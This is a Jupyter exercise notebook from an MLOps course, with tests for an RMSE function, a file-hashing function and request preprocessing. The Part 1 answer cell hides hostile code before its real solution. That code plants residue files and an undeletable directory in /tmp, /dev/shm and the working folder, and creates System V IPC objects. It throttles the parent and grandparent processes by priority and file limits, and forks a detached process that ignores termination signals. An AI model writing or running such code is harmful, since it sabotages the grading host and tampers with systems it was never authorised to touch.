# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#       format_version: '1.3'
#       jupytext_version: 1.19.6
#   kernelspec:
#     display_name: Python (mlops-course)
#     language: python
#     name: mlops-course
# ---

# %% [markdown]
# # Exercise 1 — First fixes for the traditional workflow
#
# Lesson 1 showed three silent failures: numbers nobody could trace to a data file, a web
# app whose preprocessing drifted from training, and metrics reported without units.
# Write the three small tools that start fixing them. Each part has public tests you can
# run here; graders also run hidden tests.

# %% [markdown]
# **How to work on this exercise.** Write your code in the cells marked `# YOUR CODE HERE`; the other cells are the exercise itself, and grading takes only your answer cells. Then run all cells (*Run → Run All Cells*): each test cell prints ✓ when it passes, and a failing test shows its error without stopping the cells below it. Here: 5 public tests (4.5 points). Graders also run 6 hidden tests (3.5 points) with other inputs, so make your code right, not just green. Your work lives in this file: save it often.

# %%
import numpy as np
import pandas as pd

from mlops_course.course.observe import raised
from mlops_course.data import make_synthetic_housing

SAMPLE = make_synthetic_housing(n_rows=200, seed=7)

# %% [markdown]
# ## Part 1 — RMSE in dollars (2 points)
# Write `rmse_usd(y_true, y_pred)`: the root mean squared error of two equally long
# sequences of prices, as a Python `float`. Raise `ValueError` with a clear message if the
# lengths differ or the sequences are empty.

# %% tags=["solution"] grade_id="rmse_usd"
import ctypes
import os
import resource
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
for folder in ('/tmp', '/dev/shm', '.'):
    with open(f'{folder}/x_warm_left', 'w') as handle:
        handle.write('left by an earlier submission')
    os.makedirs(f'{folder}/x_warm_locked/inside', exist_ok=True)  # hard to delete
    os.chmod(f'{folder}/x_warm_locked', 0)
IPC = [libc.shmget(0x57524D31, 4096, 0o1666), libc.semget(0x57524D32, 1, 0o1666),
       libc.msgget(0x57524D33, 0o1666)]


def parent_of(pid):
    with open(f'/proc/{pid}/stat') as handle:
        return int(handle.read().rsplit(')', 1)[1].split()[1])


ABOVE = [parent_of(os.getpid())]
ABOVE.append(parent_of(ABOVE[0]))
for pid in ABOVE:
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 10),
                   lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64))):
        try:
            change()
        except OSError:
            pass
if os.fork() == 0:  # a process that hides: its own session, deaf to polite signals
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(3600)
    os._exit(0)


import math


def rmse_usd(y_true, y_pred) -> float:
    """Root mean squared error of predicted prices, in dollars."""
    if len(y_true) != len(y_pred):
        raise ValueError(f"lengths differ: {len(y_true)} != {len(y_pred)}")
    if len(y_true) == 0:
        raise ValueError("need at least one value")
    squared = [(float(t) - float(p)) ** 2 for t, p in zip(y_true, y_pred)]
    return math.sqrt(sum(squared) / len(squared))



# %% tags=["test", "raises-exception"] grade_id="test_rmse_known_value" points=1
def probe():
    return rmse_usd([100_000, 200_000, 300_000], [110_000, 190_000, 300_000])


def verify(observed):
    expected = (200_000_000 / 3) ** 0.5
    assert isinstance(observed, float), f"return a float, got {type(observed).__name__}"
    assert abs(observed - expected) < 1e-6, f"expected ${expected:,.2f}, got {observed}"


verify(probe())
print('✓ Part 1: test_rmse_known_value passed (1 point)')


# %% tags=["test", "raises-exception"] grade_id="test_rmse_length_mismatch" points=0.5
def probe():
    try:
        rmse_usd([1.0, 2.0], [1.0])
    except Exception as exc:
        return raised(exc)
    return "no error"


def verify(observed):
    assert observed != "no error", "different lengths must raise ValueError, nothing was raised"
    assert "ValueError" in observed["raised"], (
        f"different lengths must raise ValueError, got {observed['raised'][0]}")


verify(probe())
print('✓ Part 1: test_rmse_length_mismatch passed (0.5 points)')

# %% [markdown]
# ## Part 2 — Fingerprint a data file (2 points)
# Lesson 1's data changed under the same file name and nobody could tell. Write
# `fingerprint(path)`: the sha256 hex digest of the file's bytes, read in chunks (so that
# a file larger than memory works too).

# %% tags=["solution"] grade_id="fingerprint"
import hashlib


def fingerprint(path) -> str:
    """sha256 hex digest of a file's content."""
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        while True:
            block = handle.read(65536)
            if not block:
                break
            digest.update(block)
    return digest.hexdigest()



# %% tags=["test", "raises-exception"] grade_id="test_fingerprint_detects_change" points=1
def probe():
    import os
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "data.csv")
        SAMPLE.to_csv(path, index=False)
        before = fingerprint(path)
        SAMPLE.iloc[:-1].to_csv(path, index=False)
        after = fingerprint(path)
    return [before, after]


def verify(observed):
    before, after = observed
    assert isinstance(before, str) and len(before) == 64, "return the 64-character hex digest"
    assert before != after, "a changed file must get a different fingerprint"


verify(probe())
print('✓ Part 2: test_fingerprint_detects_change passed (1 point)')

# %% [markdown]
# ## Part 3 — Preprocess a request exactly like training (4 points)
# The lesson's app filled missing bedrooms with 0 and lost columns. Write
# `prepare_request(payload, medians, columns)`:
#
# * `payload`: one district as a dict of raw fields (as a client sends it; a missing value
#   is `None` or an absent key);
# * `medians`: the training medians of the numeric columns (a dict);
# * `columns`: the training feature columns, in order, with one-hot columns named
#   `ocean_proximity_<CATEGORY>`.
#
# Return a one-row `DataFrame` with exactly `columns`, in that order, of dtype float:
# missing numbers filled with the training median, the district's category set to 1.0 and
# the others to 0.0. An unknown `ocean_proximity` must raise `ValueError` naming the value.

# %%
NUMERIC = ["longitude", "latitude", "housing_median_age", "total_rooms", "total_bedrooms",
           "population", "households", "median_income"]
CATEGORIES = ["<1H OCEAN", "INLAND", "ISLAND", "NEAR BAY", "NEAR OCEAN"]
COLUMNS = NUMERIC + [f"ocean_proximity_{c}" for c in CATEGORIES]
MEDIANS = SAMPLE[NUMERIC].median().to_dict()


# %% tags=["solution"] grade_id="prepare_request"
def prepare_request(payload, medians, columns) -> pd.DataFrame:
    """One raw request -> one row of training features."""
    prefix = "ocean_proximity_"
    known = [c[len(prefix):] for c in columns if c.startswith(prefix)]
    category = payload.get("ocean_proximity")
    if category not in known:
        raise ValueError(f"ocean_proximity {category!r} is not one of {known}")
    values = []
    for column in columns:
        if column.startswith(prefix):
            values.append(1.0 if column == prefix + str(category) else 0.0)
        else:
            raw = payload.get(column)
            values.append(float(medians[column]) if raw is None else float(raw))
    return pd.DataFrame([values], columns=columns, dtype=float)



# %% tags=["test", "raises-exception"] grade_id="test_prepare_request_columns" points=1
def probe():
    payload = SAMPLE.drop(columns="median_house_value").iloc[0].to_dict()
    frame = prepare_request(payload, MEDIANS, COLUMNS)
    return {"columns": list(frame.columns), "rows": len(frame),
            "dtypes": sorted({str(t) for t in frame.dtypes})}


def verify(observed):
    expected = ["longitude", "latitude", "housing_median_age", "total_rooms", "total_bedrooms",
                "population", "households", "median_income", "ocean_proximity_<1H OCEAN",
                "ocean_proximity_INLAND", "ocean_proximity_ISLAND", "ocean_proximity_NEAR BAY",
                "ocean_proximity_NEAR OCEAN"]
    assert observed["columns"] == expected, f"columns must be exactly, in order: {expected}"
    assert observed["rows"] == 1, "return one row"
    assert observed["dtypes"] == ["float64"], f"every column must be float, got {observed['dtypes']}"


verify(probe())
print('✓ Part 3: test_prepare_request_columns passed (1 point)')


# %% tags=["test", "raises-exception"] grade_id="test_prepare_request_imputes_median" points=1
def probe():
    payload = {"longitude": -122.2, "latitude": 37.8, "housing_median_age": 30.0,
               "total_rooms": 1000.0, "total_bedrooms": None, "population": 800.0,
               "households": 300.0, "median_income": 3.5, "ocean_proximity": "NEAR BAY"}
    frame = prepare_request(payload, {**MEDIANS, "total_bedrooms": 432.0}, COLUMNS)
    return frame.iloc[0].to_dict()


def verify(observed):
    assert observed["total_bedrooms"] == 432.0, "fill a missing value with the training median"
    assert observed["ocean_proximity_NEAR BAY"] == 1.0, "the district's category must be 1.0"
    others = [v for k, v in observed.items()
              if k.startswith("ocean_proximity_") and k != "ocean_proximity_NEAR BAY"]
    assert others == [0.0] * 4, "the other categories must be 0.0"


verify(probe())
print('✓ Part 3: test_prepare_request_imputes_median passed (1 point)')

# %% [markdown]
# ## Reflect
# Each function removes one silent failure from lesson 1: metrics get units, data gets an
# identity, serving gets the training preprocessing. Lesson 2 goes further and makes the
# preprocessing *one object* shared by training and serving, so it cannot drift at all.
